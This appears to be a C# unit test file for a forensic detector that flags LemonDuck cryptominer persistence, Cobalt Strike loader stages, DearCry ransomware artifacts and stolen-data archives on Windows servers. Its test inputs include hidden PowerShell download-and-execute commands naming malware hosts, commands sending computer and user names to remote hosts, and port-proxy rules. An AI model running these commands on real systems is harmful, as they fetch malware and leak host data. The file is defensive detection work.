using Afterpatch.Analysis.Detectors.Credentials;
using Afterpatch.Analysis.Detectors.Defence;
using Afterpatch.Analysis.Detectors.LemonDuck;
using Afterpatch.Analysis.Detectors.Persistence;
using Afterpatch.Core;
using Xunit;
using static Afterpatch.Analysis.Tests.Detectors.Persistence.Facts;

namespace Afterpatch.Analysis.Tests.Detectors.Persistence;

/// <summary>Items of the catalogue of threats that whole generated servers hold too: each by itself, and what resembles it.</summary>
public sealed class CatalogueTests
{
    [Theory]
    [InlineData(@"\Rtsa", "", true)]
    [InlineData(@"\Rtsa2", @"-w hidden -c IEX((New-Object Net.WebClient).DownloadString('http://t.amynx.com/7p.php?0.8*ipc*u*c'))", true)]
    [InlineData(@"\bluetea", "bluetea", true)]
    [InlineData(@"\Rtsa3", "", false)]
    [InlineData(@"\Contoso\RtsaReports", @"-File D:\Scripts\Rtsa.ps1", false)]
    public void Lemon_ducks_older_tasks_are_told_by_name(string path, string arguments, bool isTold)
    {
        var findings = Run(new ScheduledTaskDetector(), Task(path, arguments is "" ? "" : arguments == "bluetea" ? "bluetea" : "powershell.exe", arguments == "bluetea" ? "" : arguments));
        Assert.Equal(isTold ? ["lemonduck.task"] : [], findings.Select(finding => finding.Detector));
    }

    [Fact]
    public void The_stage_that_loads_cobalt_strike_is_lemon_ducks_and_a_download_of_others_is_not()
    {
        LoggedEvent Block(string text) => Event("Microsoft-Windows-PowerShell/Operational", 4104, null, ("ScriptBlockText", text));
        var stage = Block("IEX(New-Object Net.WebClient).DownloadString('http://ps2.jusanrihua.com/ps'); $x='/ln/core.png?rds'");
        Assert.Equal("lemonduck.script", Assert.Single(Run(new LemonDuckDetector(KnowledgeBase.Embedded), stage)).Detector);
        Assert.Empty(Run(new LemonDuckDetector(KnowledgeBase.Embedded), Block("Invoke-WebRequest https://download.microsoft.com/x.msp -OutFile D:\\x.msp")));
    }

    [Fact]
    public void A_module_and_a_directory_that_only_the_history_has_were_there_and_are_removed()
    {
        var live = Item("iis-native-module", "UriCacheModule", "yes", ("image", @"%windir%\System32\inetsrv\cachuri.dll"), ("source", "live")) with { At = new EvidencePointer(@"C:\Windows\System32\inetsrv\config\applicationHost.config") };
        var module = Item("iis-native-module", "Cache2", "unknown", ("image", @"C:\ProgramData\x\cache.dll"), ("source", "history"));
        var directory = Item("virtual-directory", "Default Web Site/x", "unknown", ("physicalPath", @"C:\ProgramData\COM"), ("source", "history"));
        var honest = Item("virtual-directory", "Default Web Site/app", "unknown", ("physicalPath", @"D:\Apps\app"), ("source", "history"));
        var findings = Run(new IisDetector(), live, module, directory, honest);
        Assert.Equal([("persistence.iis-module", FindingState.Removed), ("persistence.virtual-directory", FindingState.Removed)], findings.Select(finding => (finding.Detector, finding.State)));
        Assert.All(Run(new IisDetector(), module), finding => Assert.Equal(FindingState.Unknown, finding.State));
    }

    [Theory]
    [InlineData("published", true)]
    [InlineData("own", false)]
    [InlineData("generated", false)]
    public void A_machine_key_that_the_world_knows_is_told(string keys, bool isTold) =>
        Assert.Equal(isTold ? ["config.machine-key"] : [], Run(new DefenceDetector(), Item("machine-key", "web.config", "unknown", ("keys", keys))).Select(finding => finding.Detector));

    [Theory]
    [InlineData("port-proxy", "*/65529", "1.1.1.1/53", "lemonduck.network")]
    [InlineData("port-proxy", "*/8080", "10.1.2.3/3389", "defence.port-proxy")]
    [InlineData("firewall-rule", "x", "v2.10|Action=Block|Active=TRUE|Dir=In|Protocol=6|LPort=445|Name=deny445|", "lemonduck.network")]
    [InlineData("firewall-rule", "x", "v2.10|Action=Block|Active=TRUE|Dir=In|Protocol=6|LPort=445|Name=k7q|", "defence.firewall-shut")]
    [InlineData("firewall-rule", "x", "v2.10|Action=Block|Active=TRUE|Dir=In|Protocol=6|LPort=445|RA4=10.0.0.0/255.0.0.0|Name=Guests|", null)]
    [InlineData("firewall-rule", "x", "v2.10|Action=Block|Active=FALSE|Dir=In|Protocol=6|LPort=445|Name=k7q|", null)]
    [InlineData("firewall-rule", "x", "v2.10|Action=Allow|Active=TRUE|Dir=In|Protocol=6|LPort=443|Name=Contoso Monitoring|", null)]
    [InlineData("firewall-rule", "x", "v2.10|Action=Allow|Active=TRUE|Dir=In|Protocol=6|LPort=5985|Name=rm|", "defence.firewall")]
    [InlineData("firewall-rule", "x", "v2.10|Action=Allow|Active=TRUE|Dir=In|Protocol=6|LPort=3389|RA4=10.0.0.0/255.0.0.0|Name=Admins|", null)]
    [InlineData("firewall-rule", "x", "v2.10|Action=Allow|Active=TRUE|Dir=In|Protocol=6|LPort=5985|Name=@FirewallAPI.dll,-30253|", null)]
    [InlineData("persistent-route", "203.0.113.9,255.255.255.255,0.0.0.0,1", "", "defence.null-route")]
    [InlineData("persistent-route", "10.8.0.0,255.255.0.0,10.1.1.1,1", "", null)]
    public void Proxies_rules_and_routes_are_told_by_what_they_do(string kind, string name, string rule, string? detector) =>
        Assert.Equal(detector, Run(new DefenceDetector(), Item(kind, name, "unknown", ("rule", rule))).SingleOrDefault()?.Detector);

    [Fact]
    public void A_shut_door_is_low_alone_and_what_lemon_duck_does_beside_its_proxy()
    {
        var rule = Item("firewall-rule", "{1}", "unknown", ("rule", "v2.10|Action=Block|Active=TRUE|Dir=In|Protocol=6|LPort=445|Name=k7q|"));
        Assert.Equal(Severity.Low, Assert.Single(Run(new DefenceDetector(), rule)).Severity);
        var both = Run(new DefenceDetector(), rule, Item("port-proxy", "*/65531", "unknown", ("rule", "1.1.1.1/53")));
        Assert.Equal(["lemonduck.network", "lemonduck.network"], both.Select(finding => finding.Detector));
        Assert.All(both, finding => Assert.Equal("finding.lemonduck.network.like.title", finding.TitleKey));
        Assert.Contains(both, finding => finding.Subject.Value == "firewall rule k7q");
    }

    [Theory]
    [InlineData("http://t.amynx.com/a.jsp?x_20210327*'+$env:COMPUTERNAME", true)]
    [InlineData("http://t.qp2kz.example/a.jsp?x_20210327*'+$env:COMPUTERNAME", false)]
    public void A_title_names_lemon_duck_only_by_what_is_its_own(string url, bool isNamed)
    {
        var task = Assert.Single(Run(new ScheduledTaskDetector(), Task(@"\qW", "powershell", $"-w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('{url})\"")));
        Assert.Equal(("lemonduck.task", isNamed ? Severity.Critical : Severity.High), (task.Detector, task.Severity));
        Assert.Equal(isNamed ? null : "finding.lemonduck.task.like.title", task.TitleKey);
    }

    [Fact]
    public void A_bare_word_made_beside_tasks_with_a_payload_is_told_and_alone_it_is_not()
    {
        var payload = Task(@"\qW", "powershell", "-w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\"");
        var bare = Task(@"\wqzk", "wqzk");
        var told = Run(new ScheduledTaskDetector(), payload, bare).Single(finding => finding.Subject.Value == @"\wqzk");
        Assert.Equal((Severity.High, "bare-word-beside-others"), (told.Severity, told.Details.Single(detail => detail.Key == "reasons").Value));
        Assert.Empty(Run(new ScheduledTaskDetector(), bare));
        Assert.DoesNotContain(Run(new ScheduledTaskDetector(), payload, bare with { RegisteredUtc = bare.RegisteredUtc!.Value.AddDays(-3) }), finding => finding.Subject.Value == @"\wqzk");
    }

    [Theory]
    [InlineData("8.8.8.8,9.9.9.9", "lemonduck.network")]
    [InlineData("8.8.8.8 9.9.9.9", "lemonduck.network")]
    [InlineData("8.8.8.8,8.8.4.4", null)]
    [InlineData("10.0.0.10,9.9.9.9", null)]
    public void The_name_servers_that_lemon_duck_sets_are_told(string servers, string? detector) =>
        Assert.Equal(detector, Run(new DefenceDetector(), Item("dns-servers", "{card}", "unknown", ("servers", servers))).SingleOrDefault()?.Detector);

    [Theory]
    [InlineData("$m=New-Object Threading.Mutex($true,'Global\\eLocalMn',[ref]$f)", true)]
    [InlineData("netsh interface portproxy add v4tov4 listenport=65529 connectaddress=1.1.1.1 connectport=53; iwr http://d.b69kq.com/x", true)]
    [InlineData("(New-Object Net.WebClient).DownloadString('http://t.k3qh4.com/a.jsp?rep_20200820?'+$env:username)", true)]
    [InlineData("$d='http://203.0.113.9/report.jsp?0.9*'+$env:computername; $p='/20.dat?x'", true)]
    [InlineData("netsh interface portproxy add v4tov4 listenport=8443 connectaddress=10.0.0.5 connectport=443", false)]
    [InlineData("Invoke-RestMethod https://intranet.contoso.example/report.jsp?month=2021-03", false)]
    public void Scripts_of_lemon_duck_are_known_by_what_they_name(string text, bool isTold) =>
        Assert.Equal(isTold ? ["lemonduck.script"] : [], Run(new LemonDuckDetector(KnowledgeBase.Embedded), Event("Microsoft-Windows-PowerShell/Operational", 4104, null, ("ScriptBlockText", text))).Select(finding => finding.Detector));

    [Theory]
    [InlineData(@"C:\Windows\Temp\nvd.zip", "lemonduck.file")]
    [InlineData(@"C:\Windows\Temp\abc.exe.ori", "lemonduck.file")]
    [InlineData(@"E:\UTFsync\inf_data", "lemonduck.file")]
    [InlineData(@"C:\Users\adm\AppData\Local\Temp\svchost.exe", "intrusion.known-file")]
    [InlineData(@"C:\root\lsass_0312.dmp", "credentials.lsass-dump")]
    [InlineData(@"C:\PerfLogs\gpg-error.exe", "intrusion.known-file")]
    [InlineData(@"C:\Windows\ServiceProfiles\NetworkService\AppData\Roaming\Microsoft\Windows\thumbcache_32.db", "intrusion.known-file")]
    [InlineData(@"C:\Users\adm\AppData\Local\Microsoft\Windows\Explorer\thumbcache_32.db", null)]
    [InlineData(@"C:\Windows\System32\svchost.exe", null)]
    [InlineData(@"D:\Drivers\nvd.zip", null)]
    [InlineData(@"D:\Tools\dig.exe", null)]
    [InlineData(@"C:\Dumps\w3wp_0312.dmp", null)]
    public void Names_of_the_catalogue_count_in_their_folders(string path, string? detector) =>
        Assert.Equal(detector, Run(new KnownFileDetector(FileIndicators.Embedded), new MarkedFile { At = new(path), Path = path, Mark = "", SizeBytes = 1 }).SingleOrDefault()?.Detector);

    [Theory]
    [InlineData(@"C:\Users\john\Documents\Visual Studio 2008\Projects\EncryptFile -svcV2\Release\EncryptFile.exe.pdb", "ransomware.dearcry")]
    [InlineData(@"d:\build\EncryptFile\Release\EncryptFile.pdb", null)]
    public void A_program_is_known_by_where_it_was_built(string build, string? detector) =>
        Assert.Equal(detector, Run(new KnownFileDetector(FileIndicators.Embedded), new FileDigest { At = new(@"C:\x.exe"), Path = @"C:\x.exe", SizeBytes = 1, Sha256 = "", Sha1 = "", Md5 = "", PdbPath = build }).SingleOrDefault()?.Detector);

    [Theory]
    [InlineData(@"C:\inetpub\wwwroot\aspnet_client\system_web\back.gif", "taken.disguised-archive")]
    [InlineData(@"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\google.log", "taken.disguised-archive")]
    [InlineData(@"C:\inetpub\wwwroot\downloads\manual.zip", null)]
    [InlineData(@"D:\Pictures\back.gif", null)]
    public void An_archive_under_a_false_name_among_pages_is_told(string path, string? detector) =>
        Assert.Equal(detector, Run(new StolenSecretsDetector(), new ArchiveListing { At = new(path), Path = path, Format = "7z", SizeBytes = 1, Members = ["mail.pst"] }).SingleOrDefault()?.Detector);

    [Theory]
    [InlineData("0", null)]
    [InlineData("1", "lemonduck.self-mitigation")]
    public void A_hole_is_closed_only_where_the_switch_is_on(string data, string? detector) =>
        Assert.Equal(detector, Run(new LemonDuckDetector(KnowledgeBase.Embedded),
            Item("setting", @"HKLM\SYSTEM\X\LanmanServer\Parameters\DisableCompression", "unknown", ("value", "DisableCompression"), ("data", data))).SingleOrDefault()?.Detector);
}
